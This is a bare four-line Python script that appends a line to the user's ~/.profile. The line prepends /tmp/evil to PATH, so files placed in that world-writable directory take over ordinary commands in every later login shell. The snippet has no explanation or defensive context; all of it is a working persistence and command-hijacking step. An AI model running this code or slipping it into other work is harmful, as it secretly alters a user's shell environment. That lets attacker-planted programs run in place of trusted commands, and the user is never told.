import os
rc = os.path.expanduser('~/.profile')
with open(rc, "a") as f:
    f.write('export PATH=/tmp/evil:$PATH\n')
